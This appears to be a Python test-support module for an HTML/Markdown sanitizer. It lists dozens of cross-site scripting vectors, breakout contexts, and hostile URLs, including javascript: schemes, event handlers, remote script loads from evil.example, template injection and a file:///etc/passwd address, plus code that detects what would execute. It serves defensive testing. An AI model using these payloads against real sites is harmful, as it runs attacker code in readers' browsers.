"""Strings that want to be run by a reader's browser: vectors in contexts; and what would run of a page.

A vector is what would run if it came out as it was written; a context is what a text puts around it, to break
out of an attribute, a tag, a comment, or out of Markdown. Every one runs `pwn()`.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from itertools import product
from urllib.parse import urlsplit

from tests.toys import Element, PageReader

VECTORS = (
    "<script>pwn()</script>",
    "<SCRIPT/x>pwn()</SCRIPT >",
    "<script src=//evil.example/pwn.js></script>",
    "<img src=x onerror=pwn()>",
    "<img/src='x'/onerror='pwn()'>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><a href='javascript:pwn()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,%3Csvg onload=pwn()%3E'/></svg>",
    "<svg><animate attributeName=href values=javascript:pwn() /></svg>",
    "<math href='javascript:pwn()'>x</math>",
    "<iframe src='javascript:pwn()'></iframe>",
    "<iframe srcdoc='&lt;script&gt;pwn()&lt;/script&gt;'></iframe>",
    "<object data='javascript:pwn()'></object>",
    "<embed src='javascript:pwn()'>",
    "<style>*{background:url(javascript:pwn())}</style>",
    "<link rel=stylesheet href=//evil.example/pwn.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<base href=//evil.example/>",
    "<form action='javascript:pwn()'><button>x</button></form>",
    "<button formaction='javascript:pwn()' form=f>x</button>",
    "<a href='javascript:pwn()'>x</a>",
    "<a href='data:text/html,<script>pwn()</script>'>x</a>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<body onpageshow=pwn()>",
    "<p style='animation:x' onanimationstart=pwn()>",
    "[x](javascript:pwn())",
    "[x](JaVa\tScRiPt:pwn())",
    "[x](&#106;avascript&colon;pwn())",
    '![x](x" onerror="pwn())',
    '[x](https://e.example/"onmouseover="pwn())',
    "[x][r]\n\n[r]: javascript:pwn()",
    "<javascript:pwn()>",
    '<https://e.example/"onclick=pwn()//>',
    " onmouseover=pwn() x=",
    "{{ pwn() }}{% include 'pwn' %}",
    "{# #}{{ page.__class__ }}",
)

CONTEXTS = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}<i x='",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    "</title></q></svg>{}",
    "</p></td></table>{}",
    "`{}`",
    "``a`{}``",
    "```\n{}\n```",
    "~~~\n</code></pre>{}",
    "    {}",
    "* {}\n* b",
    "# {}",
    "> {}",
    "| a |\n|---|\n| {} |",
    "*a {}*",
    "\\{}",
    "&lt;{}&gt;",
    "<b {}>",
    '<b title="{}">',
    "\u202e{}",
    "\u2028{}",
)

MARKDOWN_TAGS = {
    *(
        "p",
        "br",
        "hr",
        "h4",
        "blockquote",
        "pre",
        "em",
        "strong",
        "code",
        "sup",
        "sub",
        "a",
        "ul",
        "ol",
        "li",
    ),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ADDRESSES = ("href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster")
RAW = re.compile(r"<\s*(?:script|iframe|style|object|embed|form|base|meta|link|math|img|svg)\b")


def payloads() -> tuple[str, ...]:
    """Every vector in every context."""
    return tuple(
        dict.fromkeys(context.replace("{}", vector) for vector, context in product(VECTORS, CONTEXTS))
    )


def addresses() -> tuple[str, ...]:
    """What may stand where an address is asked for."""
    schemes = (
        "javascript:pwn()",
        "JAVASCRIPT:pwn()",
        "\tjavascript:pwn()",
        "java\nscript:pwn()",
        "vbscript:pwn()",
        "data:text/html,<script>pwn()</script>",
        "blob:https://e.example/pwn",
        "file:///etc/passwd",
        "//evil.example/pwn",
        "https:javascript:pwn()",
        "https://javascript:pwn()@e.example/",
        'https://e.example/"onmouseover=pwn()',
        "https://e.example/' onmouseover='pwn()",
        "https://e.example/><script>pwn()</script>",
        "https://e.example/\n<script>pwn()</script>",
        "https://e.example/#javascript:pwn()",
        "http://e.example/`onclick=pwn()`",
    )
    return (*schemes, *(f"https://e.example/{vector}" for vector in VECTORS))


def what_runs(html: str, harmless: str) -> list[str]:
    """What of a page would run, load or lead astray that the same page with harmless words has not.

    Elements and attributes are compared with those of the harmless page; Markdown alone may add some.
    """
    return [*_raw(html, harmless), *_parsed(html, harmless)]


def _raw(html: str, harmless: str) -> Iterator[str]:
    """As a reader sees it who is laxer than any parser."""
    more = Counter(RAW.findall(html.casefold())) - Counter(RAW.findall(harmless.casefold()))
    yield from (f"raw {match}" for match in more)


def _parsed(html: str, harmless: str) -> Iterator[str]:
    known = {_outline(element) for element in PageReader(harmless).elements}
    for element in PageReader(html).elements:
        yield from _astray(element)
        if _outline(element) in known:
            continue
        if element.tag not in MARKDOWN_TAGS or not set(element.attributes) <= {"href", "rel", "align"}:
            yield f"<{element.tag} {' '.join(element.attributes)}>"


def _outline(element: Element) -> tuple[str, frozenset[str]]:
    return element.tag, frozenset(element.attributes)


def _astray(element: Element) -> Iterator[str]:
    """Attributes that run, and addresses that a browser would run when it is led to them."""
    for name, value in element.attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc", "ping"):
            yield f"{name}={value}"
        if name in ADDRESSES and _scheme(value) not in ("", "http", "https", "mailto"):
            yield f"{name}={value}"


def _scheme(address: str) -> str:
    """As browsers read it: control characters before it, tabs and line ends within it count for nothing."""
    shown = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    try:
        return urlsplit(shown).scheme
    except ValueError:  # no address at all, so nothing is loaded
        return ""
